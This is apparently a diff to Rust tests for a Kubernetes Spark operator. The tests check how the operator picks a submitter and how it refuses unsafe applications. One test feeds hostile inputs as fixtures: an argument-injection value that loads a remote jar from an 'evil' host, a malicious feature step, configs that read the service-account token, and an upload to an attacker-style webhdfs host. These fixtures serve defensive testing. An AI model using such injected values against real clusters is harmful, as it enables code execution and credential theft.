@@ -25,44 +25,101 @@ fn the_operator_submits_what_it_can_and_leaves_the_rest_to_spark_submit() {
     let easy = program(json!({}));
     assert!(matches!(chosen(&easy, &policy()).request.by, By::Native(_)));
     let Chosen { request, events } = chosen(&odd(), &policy());
-    let By::SparkSubmit { fallback: Some(Reason::UnknownSetting), .. } = request.by else {
-        panic!("{request:?}")
-    };
+    let By::Pod { fallback: Some(Reason::UnknownSetting), .. } = request.by else { panic!("{request:?}") };
     assert_eq!(
         events.iter().map(|event| &*event.note).collect::<Vec<_>>(),
         [
-            "submitted by spark-submit, since only that can do this: spec.sparkConf[spark.kubernetes.brandNew]: is a \
-          setting that the operator does not know"
+            "submitted by spark-submit in a pod, since only that can do this: spec.sparkConf[spark.kubernetes.brandNew]: \
+             is a setting that the operator does not know"
         ]
     );
 }
 
 #[test]
-fn an_admin_decides_who_submits_and_an_application_decides_for_itself() {
+fn an_application_narrows_what_the_admin_allows_and_never_widens_it() {
+    use Submitter::{Auto, Native, SparkSubmit};
     for (flag, annotation, is_native) in [
-        (Submitter::Auto, None, true),
-        (Submitter::Native, None, true),
-        (Submitter::SparkSubmit, None, false),
-        (Submitter::SparkSubmit, Some("native"), true),
-        (Submitter::SparkSubmit, Some("auto"), true),
-        (Submitter::Native, Some("spark-submit"), false),
+        (Auto, None, Ok(true)),
+        (Auto, Some("auto"), Ok(true)),
+        (Auto, Some("native"), Ok(true)),
+        (Auto, Some(" spark-submit "), Ok(false)),
+        (Native, None, Ok(true)),
+        (Native, Some("auto"), Ok(true)),
+        (Native, Some("native"), Ok(true)),
+        (
+            Native,
+            Some("spark-submit"),
+            Err("`spark-submit` is not allowed: the operator runs with --submitter=native"),
+        ),
+        (SparkSubmit, None, Ok(false)),
+        (SparkSubmit, Some("auto"), Ok(false)),
+        (SparkSubmit, Some("spark-submit"), Ok(false)),
+        (
+            SparkSubmit,
+            Some("native"),
+            Err("`native` is not allowed: the operator runs with --submitter=spark-submit"),
+        ),
     ] {
-        let mut application = program(json!({}));
-        application.metadata.annotations = annotation
-            .map(|annotation| [("sparkoperator.k8s.io/submitter".to_owned(), annotation.to_owned())].into());
-        let by = chosen(&application, &Policy { submitter: flag, ..policy() }).request.by;
-        assert_eq!(matches!(by, By::Native(_)), is_native, "{flag} {annotation:?}");
+        let application = asking(program(json!({})), annotation);
+        let policy = Policy { submitter: flag, ..policy() };
+        let chosen = choose(&application, &Run::next(&application), &surroundings(), &policy, now());
+        match (chosen, is_native) {
+            (Ok(chosen), Ok(is_native)) => {
+                assert_eq!(matches!(chosen.request.by, By::Native(_)), is_native, "{flag} {annotation:?}");
+            }
+            (Err(why), Err(expected)) => {
+                let field = "metadata.annotations[sparkoperator.k8s.io/submitter]: ";
+                assert!(why.starts_with(&format!("{field}{expected}")), "{why}");
+            }
+            (chosen, expected) => panic!("{flag} {annotation:?}: {chosen:?}, not {expected:?}"),
+        }
+    }
+}
+
+/// The four ways by which a tenant's code or files once got into the operator or out of it: there is nothing left that
+/// could run or read them. What is not refused is planned for a pod of the tenant's own.
+#[test]
+fn what_runs_tenants_code_or_reads_files_never_does_so_in_the_operator() {
+    let injected = json!({
+        "mainApplicationFile": "--master",
+        "arguments": ["local[1]", "--deploy-mode", "client", "--class", "Evil", "http://evil.team-a.svc/x.jar"],
+    });
+    for submitter in [None, Some("native"), Some("spark-submit")] {
+        let injected = asking(program(injected.clone()), submitter);
+        let why = choose(&injected, &Run::next(&injected), &surroundings(), &policy(), now()).unwrap_err();
+        assert!(why.starts_with("spec.mainApplicationFile: `--master` begins with `-`"), "{why}");
+    }
+    let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
+    let template = "spark.kubernetes.executor.podTemplateFile";
+    for (changes, reason) in [
+        (
+            json!({"deps": {"packages": ["evil:evil:1"]}, "sparkConf": {"spark.kubernetes.driver.pod.featureSteps": "Evil"}}),
+            Reason::FeatureSteps,
+        ),
+        (json!({"sparkConf": {"spark.kubernetes.kerberos.krb5.path": token}}), Reason::SubmitterFile),
+        (json!({"sparkVersion": "2.4.8", "sparkConf": {template: token}}), Reason::SubmitterFile),
+        (
+            json!({"sparkConf": {"spark.files": format!("file://{token}"),
+            "spark.kubernetes.file.upload.path": "webhdfs://evil.team-a.svc/x"}}),
+            Reason::Upload,
+        ),
+    ] {
+        let application = program(changes);
+        let Chosen { request, .. } = chosen(&application, &policy());
+        let By::Pod { objects, fallback } = request.by else { panic!("{application:?}") };
+        assert_eq!(fallback, Some(reason));
+        assert_eq!(objects.pod["metadata"]["labels"]["spark-role"], "submission");
+        // Nor may the application have it otherwise where the admin says so.
+        let native = Policy { submitter: Submitter::Native, ..policy() };
+        choose(&application, &Run::next(&application), &surroundings(), &native, now()).unwrap_err();
     }
 }
 
 #[test]
 fn what_nobody_can_submit_is_refused_with_the_field_and_what_to_do() {
-    let mut misspelt = program(json!({}));
-    misspelt.metadata.annotations =
-        Some([("sparkoperator.k8s.io/submitter".to_owned(), "jvm".to_owned())].into());
-    let without = Policy { has_spark_submit: false, ..policy() };
+    let misspelt = asking(program(json!({})), Some("jvm"));
     let native = Policy { submitter: Submitter::Native, ..policy() };
-    let spark_submit = Policy { submitter: Submitter::SparkSubmit, ..without.clone() };
+    let let_it = "change it, or let spark-submit do it (--submitter=auto)";
     for (application, policy, beginning, end) in [
         (
             misspelt,
@@ -70,25 +127,18 @@ fn what_nobody_can_submit_is_refused_with_the_field_and_what_to_do() {
             "metadata.annotations[sparkoperator.k8s.io/submitter]: `jvm` is no submitter",
             "try `auto`, `native` or `spark-submit`",
         ),
-        (odd(), without, "spec.sparkConf[spark.kubernetes.brandNew]: ", "the operator-spark image)"),
-        (
-            odd(),
-            native.clone(),
-            "spec.sparkConf[spark.kubernetes.brandNew]: ",
-            "(--submitter, or the annotation sparkoperator.k8s.io/submitter)",
-        ),
-        (program(json!({})), spark_submit, "there is no spark-submit", "the operator-spark image)"),
+        (odd(), native.clone(), "spec.sparkConf[spark.kubernetes.brandNew]: ", let_it),
         (
             program(json!({"mainClass": null, "mainApplicationFile": "s3a://b/main.jar"})),
             native.clone(),
             "spec.mainClass: is to be found out from s3a://b/main.jar",
-            "(--submitter, or the annotation sparkoperator.k8s.io/submitter)",
+            let_it,
         ),
         (
             program(json!({"deps": {"jars": ["s3a://b/*.jar"]}})),
             native,
             "spec.deps.jars: `s3a://b/*.jar` is a pattern",
-            "(--submitter, or the annotation sparkoperator.k8s.io/submitter)",
+            let_it,
         ),
         (
             program(json!({"image": null})),
@@ -97,9 +147,21 @@ fn what_nobody_can_submit_is_refused_with_the_field_and_what_to_do() {
             "spark.kubernetes.driver.container.image",
         ),
         (
+            program(json!({"image": null, "sparkConf": {UNKNOWN: "1"}})),
+            policy(),
+            "spec.image: must be set",
+            "or spec.driver.image",
+        ),
+        (
+            program(json!({"image": "spark:${env:TAG}", "sparkConf": {UNKNOWN: "1"}})),
+            policy(),
+            "spec.image: `spark:${env:TAG}` is put together by spark-submit",
+            "write it out",
+        ),
+        (
             program(json!({"volumes": [{"name": "spark-conf-volume-driver", "emptyDir": {}}],
                 "driver": {"volumeMounts": [{"name": "spark-conf-volume-driver", "mountPath": "/x"}]}})),
-            Policy::new("k8s://https://10.0.0.1:443"),
+            policy(),
             "annotation sparkoperator.k8s.io/volumes at [0]: ",
             "choose another",
         ),
@@ -133,7 +195,7 @@ fn without_the_webhook_drivers_are_the_same_and_executors_have_a_template() {
             |policy| match choose(&application, &Run::next(&application), &surroundings(), policy, now()) {
                 Ok(Chosen { request, .. }) => match request.by {
                     By::Native(objects) => Some(objects),
-                    By::SparkSubmit { .. } => None,
+                    By::Pod { .. } => None,
                 },
                 Err(_) => None,
             };
@@ -195,6 +257,13 @@ fn policy() -> Policy {
 
 fn now() -> Timestamp {
     Timestamp::UNIX_EPOCH
+}
+
+/// The application with this value of the annotation that chooses a submitter.
+fn asking(mut application: SparkApplication, submitter: Option<&str>) -> SparkApplication {
+    application.metadata.annotations = submitter
+        .map(|submitter| [("sparkoperator.k8s.io/submitter".to_owned(), submitter.to_owned())].into());
+    application
 }
 
 fn odd() -> SparkApplication {
